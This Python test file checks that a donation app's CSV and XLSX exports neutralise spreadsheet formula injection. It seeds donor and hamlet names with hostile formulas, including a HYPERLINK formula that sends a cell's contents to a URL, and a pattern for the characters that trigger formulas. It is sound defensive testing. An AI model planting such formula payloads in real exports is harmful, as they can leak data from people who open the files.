"""No export can attack the person who opens it (issue 20.6, OWASP's CSV injection).

Donors named like formulas give money; a hamlet is named like one. Then every GET route of the app (from
app.url_map, each format its <fmt>/<ext> argument can take) is requested as the central admin, as a logged-in
donor and anonymously, and every CSV and XLSX that comes back is read cell by cell: in a CSV no text cell begins
with = + - @ tab or CR (the hostile names appear with a leading quote), in an XLSX no cell is a formula except the
total the app itself writes, and every text cell that begins with a trigger is a string with Excel's quote prefix.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook

from app.campaigns.services import active_campaign
from app.core.i18n import today_vn
from app.core.spreadsheet import neutralise, restore
from app.donors.models import Donor
from app.ledger.models import Purpose
from app.reports.models import ReportKind
from app.reports.services import create_job, run_job
from app.transparency.verify_export import restore_cell
from app.units.services import add_hamlet
from tests.factories import SYSTEM, make_donor, receive
from tests.security.conftest import World
from tests.security.route_params import build_url
from tests.security.routes import all_routes

HOSTILE = ['=HYPERLINK("http://x"&A2,"y")', "+1", "-2", "@SUM(A1)", "'=1+2"]
TRIGGER = re.compile("^[=+@\t\r-]")
NUMBER = re.compile(r"-?\d+")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OWN_FORMULA = re.compile(r"=SUM\(F\d+:F\d+\)")  # the donor statement's total, written by the app


def _hostile_world(world: World) -> None:
    session = world.ctx.session
    ks = world.places["khanh_son"]
    campaign = active_campaign(session, ks.id)
    for i, name in enumerate(HOSTILE):
        receive(
            session,
            campaign,
            900_000_000 + i,  # the largest gifts: they head the report's list of donors
            receiving=ks,
            purpose=Purpose.HOUSING,
            donor=make_donor(session, name),
        )
    logged_in_donor = session.query(Donor).filter_by(name="Nhà tài trợ đăng nhập").one()
    receive(session, campaign, 1_000_000, receiving=ks, donor=logged_in_donor)
    add_hamlet(session, ks.id, HOSTILE[0])
    session.commit()
    # The staff report of the campaign these gifts went to (route_params' own job is of another campaign).
    job = create_job(session, SYSTEM, campaign=campaign, unit=ks, kind=ReportKind.YEAR, year=today_vn().year)
    session.commit()
    run_job(session, job.id)
    session.commit()
    world.ctx.cache["report_job"] = job


def _check_csv(url: str, body: str, problems: list[str]) -> set[str]:
    cells = {cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row}
    for cell in cells:
        if TRIGGER.match(cell) and not NUMBER.fullmatch(cell):
            problems.append(f"{url}: CSV cell {cell!r} would run as a formula")
    return cells


def _check_xlsx(url: str, data: bytes, problems: list[str]) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not OWN_FORMULA.fullmatch(str(cell.value)):
                    problems.append(f"{url}: XLSX cell {cell.coordinate} is a formula: {cell.value!r}")
                if isinstance(cell.value, str) and cell.data_type == "s":
                    values.add(cell.value)
                    if TRIGGER.match(cell.value) and not cell.quotePrefix:
                        problems.append(f"{url}: XLSX text {cell.value!r} lacks the quote prefix")
    return values


def _variants(world: World, route) -> list[str]:  # type: ignore[no-untyped-def]
    """The route's URL; for a route with a <fmt> or <ext> argument, one URL per format an export may take."""
    from tests.security.route_params import value_for

    arg = next((a for a in ("fmt", "ext") if a in route.rule.arguments), None)
    if arg is None:
        url = build_url(world.ctx, route.rule)
        if route.endpoint == "collections.template":  # ?xa= adds the commune's hamlets (names staff typed)
            return [url, f"{url}?xa={world.places['khanh_son'].id}"]
        return [url]
    values = {a: value_for(world.ctx, route.rule, a) for a in route.rule.arguments if a != arg}
    return [
        route.rule.build({**values, arg: f}, append_unknown=False)[1] for f in ("csv", "xlsx", "json", "pdf")
    ]


def test_every_csv_and_xlsx_export_neutralises_formula_like_text(world: World):
    _hostile_world(world)
    visitors = [
        v for v in world.visitors if v.label.startswith("central_admin") or v.label in ("donor", "anonymous")
    ]
    problems: list[str] = []
    exported: dict[str, set[str]] = {}  # endpoint -> every text cell seen
    for route in all_routes(world.app):
        if "GET" not in route.methods or route.kind in ("static", "webhook"):
            continue
        for url in _variants(world, route):
            for visitor in visitors:
                resp = visitor.client.get(url)
                kind = resp.mimetype
                if resp.status_code != 200 or kind not in ("text/csv", XLSX):
                    resp.close()
                    continue
                if kind == "text/csv":
                    cells = _check_csv(url, resp.get_data(as_text=True), problems)
                else:
                    cells = _check_xlsx(url, resp.get_data(), problems)
                exported.setdefault(route.endpoint, set()).update(cells)
    assert problems == [], "\n".join(problems)
    # The exports this test must reach (a new one is covered automatically; one that disappears is noticed).
    assert {
        "transparency.export_contributions",
        "transparency.export_totals",
        "transparency.export_roots",
        "reports.download",
        "pledges.statement",
        "needs.import_template",
        "collections.template",
    } <= set(exported), sorted(exported)
    # The hostile names are there, neutralised: quoted in the public CSV, exact strings in the staff report.
    public_csv = exported["transparency.export_contributions"]
    for name in HOSTILE:
        assert neutralise(name) in public_csv and neutralise(name) == "'" + name
    report = exported["reports.download"]
    assert set(HOSTILE) <= report
    assert HOSTILE[0] in exported["collections.template"]  # the hamlet's name, as text


def test_neutralise_is_undone_exactly_by_both_readers():
    """restore (app) and restore_cell (the standalone verifier) invert neutralise: a name survives the export."""
    samples = [*HOSTILE, "", "'", "''", "'abc", "''=x", "Nguyễn Văn An", "\t1", "\r2", "-", "=", "a=b", "1-2"]
    for s in samples:
        assert restore(neutralise(s)) == s
        assert restore_cell(neutralise(s)) == s
        assert not TRIGGER.match(neutralise(s))
    assert neutralise(-5) == -5 and neutralise(date(2026, 1, 2)) == date(2026, 1, 2)  # numbers stay numbers


@pytest.mark.postgres
def test_the_sql_rule_is_the_python_rule(app, session):
    """The PostgreSQL COPY export neutralises in SQL; the two give the same text."""
    from sqlalchemy import literal, select

    from app.core.spreadsheet import sql_neutralise

    samples = [*HOSTILE, "", "'", "''=x", "'abc", "Nguyễn", "\tx", "\ry", "a-b"]
    got = [session.execute(select(sql_neutralise(literal(s)))).scalar_one() for s in samples]
    assert got == [neutralise(s) for s in samples]
